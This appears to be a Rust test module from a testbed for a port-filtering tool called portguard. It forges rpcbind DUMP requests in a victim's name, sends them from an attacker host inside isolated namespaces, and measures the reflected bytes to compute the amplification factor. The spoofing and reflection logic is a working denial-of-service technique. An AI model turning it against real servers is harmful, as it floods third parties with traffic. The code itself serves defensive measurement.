//! The reflection attack: requests in the victim's name, and what they bring him.

use anyhow::{Result, ensure};

use super::testbed::{Family, is_answered};
use portguard_testkit::net::frame::Packet;
use portguard_testkit::net::{Capture, Forger, Host, Replies, rpc};
use portguard_testkit::testbed::{Role, Testbed, flow};

/// Few enough for rpcbind's receive buffer to hold them all.
pub(super) const REQUESTS: u64 = 100;

/// What one attack did.
#[derive(Debug, Clone, Copy)]
pub(super) struct Attack {
    pub(super) family: Family,
    /// The bytes that the attacker spent, without headers.
    pub(super) spent: u64,
    pub(super) hit: Replies,
}

impl Attack {
    /// Bytes at the victim for one byte of the attacker, without headers, as CERTs state it.
    pub(super) fn amplification(&self) -> f64 {
        self.hit.payload as f64 / self.spent as f64
    }
}

/// Sends [`REQUESTS`] forged DUMPs, and measures at the victim's network card.
pub(super) fn attack(testbed: &Testbed, family: Family) -> Result<Attack> {
    let [victim, server] = [Role::Victim, Role::Server].map(|role| family.address_of(role));
    let request = rpc::dump_call();
    let packet = Packet::udp(flow(victim, server, rpc::PORT), &request);
    let mut at_victim = Capture::start(testbed.host(Role::Victim).namespace(), Host::INTERFACE)?;
    let forger = Forger::new(testbed.host(Role::Attacker), &testbed.server)?;
    for _ in 0..REQUESTS {
        forger.send(&packet)?;
    }
    // rpcbind serves a socket in the order of arrival: with this answer, it has dealt with all of the above.
    let is_answered = is_answered(testbed, Role::Allowed, family)?;
    ensure!(is_answered, "the allowed client gets no {} answer after the attack", family.name());
    let hit = at_victim.replies(server)?;
    Ok(Attack { family, spent: REQUESTS * request.len() as u64, hit })
}
